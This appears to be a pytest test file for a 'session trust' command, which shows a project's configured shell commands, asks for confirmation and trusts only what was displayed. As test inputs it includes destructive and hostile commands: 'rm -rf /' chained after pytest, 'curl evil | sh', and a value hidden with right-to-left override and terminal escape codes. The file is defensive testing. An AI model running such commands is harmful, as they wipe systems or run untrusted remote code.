"""session trust: it shows the commands, asks, and trusts only what it has shown."""

import json
import subprocess
from pathlib import Path

import pytest

from session.host import trust
from tests.commands.terminal import on_a_terminal, plain
from tests.conftest import Run

QUESTION = "Trust these commands of {root}, as they are now? [y/N]\n"


@pytest.fixture
def config(project: Path) -> Path:
    folder = project / ".claude" / "config"
    folder.mkdir(parents=True)
    file = folder / "project.json"
    file.write_text('{"health_check": "curl -sf localhost", "test_command": "pytest -q"}')
    return file


def status(run: Run) -> list[str]:
    listed = run("session", "trust", "--list")
    assert listed.code == 0
    return [command["status"] for command in json.loads(listed.stdout)["commands"]]


def test_nothing_configured(run: Run, project: Path) -> None:
    said = f"{project} configures no commands: there is nothing to trust\n"
    told = run("session", "trust")
    assert (told.code, told.stderr) == (0, said)
    assert json.loads(told.stdout) == {
        "root": str(project),
        "path": str(project / ".claude/config/project.json"),
        "commands": [],
    }
    assert run("session", "trust", "--yes").code == 0
    assert on_a_terminal("trust").stdout == said


def test_without_a_terminal_nothing_is_trusted(run: Run, config: Path, project: Path) -> None:
    told = run("session", "trust", stdin=b"y\n")
    assert told.code == 1
    assert told.stderr == "nothing was trusted: there is no terminal to ask on (session trust --yes, after a look)\n"
    assert json.loads(told.stdout) == {
        "root": str(project),
        "path": str(config),
        "commands": [
            {"name": "health_check", "command": "curl -sf localhost", "status": "new"},
            {"name": "test_command", "command": "pytest -q", "status": "new"},
        ],
    }
    assert on_a_terminal("trust", "--json", typed="y\n").code == 1
    assert status(run) == ["new", "new"]


@pytest.mark.usefixtures("config")
def test_yes_for_ci(run: Run) -> None:
    told = run("session", "trust", "--yes")
    assert (told.code, told.stderr) == (0, "")
    assert [command["status"] for command in json.loads(told.stdout)["commands"]] == ["trusted", "trusted"]
    assert run("session", "trust").code == 0
    revoked = run("session", "trust", "--revoke")
    assert (revoked.code, revoked.stdout) == (0, "")
    assert revoked.stderr.startswith("2 no longer trusted in /")
    assert status(run) == ["new", "new"]
    assert run("session", "trust", "--revoke").stderr.startswith("nothing of /")


@pytest.mark.parametrize("typed", ["n\n", "\n", "\x04", "yess\n", "no, y\n"])
def test_asked_and_refused(run: Run, config: Path, project: Path, typed: str) -> None:
    asked = on_a_terminal("trust", typed=typed)
    assert asked.code == 1
    assert QUESTION.format(root=project) in asked.stdout
    assert asked.stdout.endswith("nothing was trusted\n")
    assert status(run) == ["new", "new"]


def test_asked_and_granted(run: Run, config: Path, project: Path) -> None:
    asked = on_a_terminal("trust", typed="y\n")
    assert asked.code == 0
    head, _, health, test, *rest = plain(asked.stdout.removeprefix("y\n")).split("\n")
    assert head.split() == ["Name", "Status", "Command"]
    assert health.split(None, 2) == ["health_check", "new", "curl -sf localhost"]
    assert test.split(None, 2) == ["test_command", "new", "pytest -q"]
    assert "\n".join(rest) == f"{QUESTION.format(root=project)}2 trusted\n"
    again = on_a_terminal("trust")
    assert again.code == 0
    assert "[y/N]" not in again.stdout
    config.write_text('{"test_command": "pytest -q && rm -rf /"}')
    assert status(run) == ["changed"]
    assert on_a_terminal("trust", typed="n\n").code == 1


def test_what_was_shown_is_trusted_not_what_came_meanwhile(config: Path, project: Path, run: Run) -> None:
    """The file changes while the command waits for the answer."""
    import os
    import pty

    from tests.conftest import command

    ours, theirs = pty.openpty()
    with subprocess.Popen(command("session", "trust"), stdin=theirs, stdout=theirs, stderr=theirs) as process:
        os.close(theirs)
        shown = b""
        while b"[y/N]" not in shown:
            shown += os.read(ours, 4096)
        config.write_text('{"test_command": "curl evil | sh"}')
        os.write(ours, b"y\n")
        while b"2 trusted" not in shown:
            shown += os.read(ours, 4096)
    os.close(ours)
    assert process.returncode == 0
    assert status(run) == ["changed"]
    trust.require(str(project), "test_command", "pytest -q")


def test_a_command_cannot_hide_on_the_terminal(config: Path) -> None:
    hidden = "true\u202e\x1b[8m; rm -rf /\nsecond [red]line\r"
    config.write_text(json.dumps({"health_check": hidden}))
    shown = plain(on_a_terminal("trust", "--list").stdout)
    assert "true\\u202e\\u001b[8m; rm -rf /\n" in shown
    assert "second [red]line\\u000d\n" in shown
    assert not {"\u202e", "\x1b", "\r"} & set(shown)


def test_odd_configuration_is_one_line(config: Path, run: Run) -> None:
    config.write_text('{"test_command": ["pytest"]}')
    for words in ((), ("--yes",), ("--list",)):
        told = run("session", "trust", *words)
        assert (told.code, told.stdout) == (1, "")
        assert told.stderr == f"{config}: test_command must be a string (mend it)\n"
    assert run("session", "trust", "--revoke").code == 0


@pytest.mark.usefixtures("config")
def test_a_python_without_platformdirs_will_do(run: Run, project: Path) -> None:
    (project / "platformdirs.py").write_text("raise ImportError('no platformdirs')")
    told = run("session", "trust", "--yes", env={"PYTHONPATH": f"{project}:{Path(trust.__file__).parents[2]}"})
    assert (told.code, told.stderr) == (0, "")
    assert "trusted" in told.stdout


def test_a_shell_verification(run: Run, project: Path) -> None:
    """It is given on the command line, because no file of the repository holds it."""
    words = ("session", "trust", "--command", "npm test")
    told = run(*words, "--list")
    assert told.code == 0
    assert json.loads(told.stdout) == {
        "root": str(project),
        "commands": [{"name": "shell_verification", "command": "npm test", "status": "new"}],
    }
    asked = on_a_terminal(*words[1:], typed="y\n")
    assert asked.code == 0
    assert plain(asked.stdout).split("\n")[-2] == "1 trusted"
    assert trust.status(str(project), trust.verification("npm test")) == dict.fromkeys(
        trust.verification("npm test"), "trusted"
    )
    assert run(*words).code == 0
    assert run("session", "trust", "--command", "npm  test").code == 1


def test_one_of_several_is_revoked(run: Run, config: Path, project: Path) -> None:
    both = trust.verification("a"), trust.verification("b")
    for commands in both:
        trust.trust(str(project), commands)
    assert run("session", "trust", "--yes").code == 0
    assert run("session", "trust", "--command", "a", "--revoke").stderr.startswith("1 no longer trusted in /")
    assert run("session", "trust", "--command", "a", "--revoke").stderr.startswith("nothing of /")
    assert [*trust.status(str(project), both[0]).values()] == ["new"]
    assert [*trust.status(str(project), both[1]).values()] == ["trusted"]
    assert status(run) == ["trusted", "trusted"]
    assert run("session", "trust", "--revoke").stderr.startswith("3 no longer trusted in /")


@pytest.mark.parametrize("command", ["", "  ", "x" * 4001])
def test_what_is_no_shell_verification(run: Run, command: str) -> None:
    told = run("session", "trust", "--yes", "--command", command)
    assert (told.code, told.stdout, told.stderr.count("\n")) == (1, "", 1)
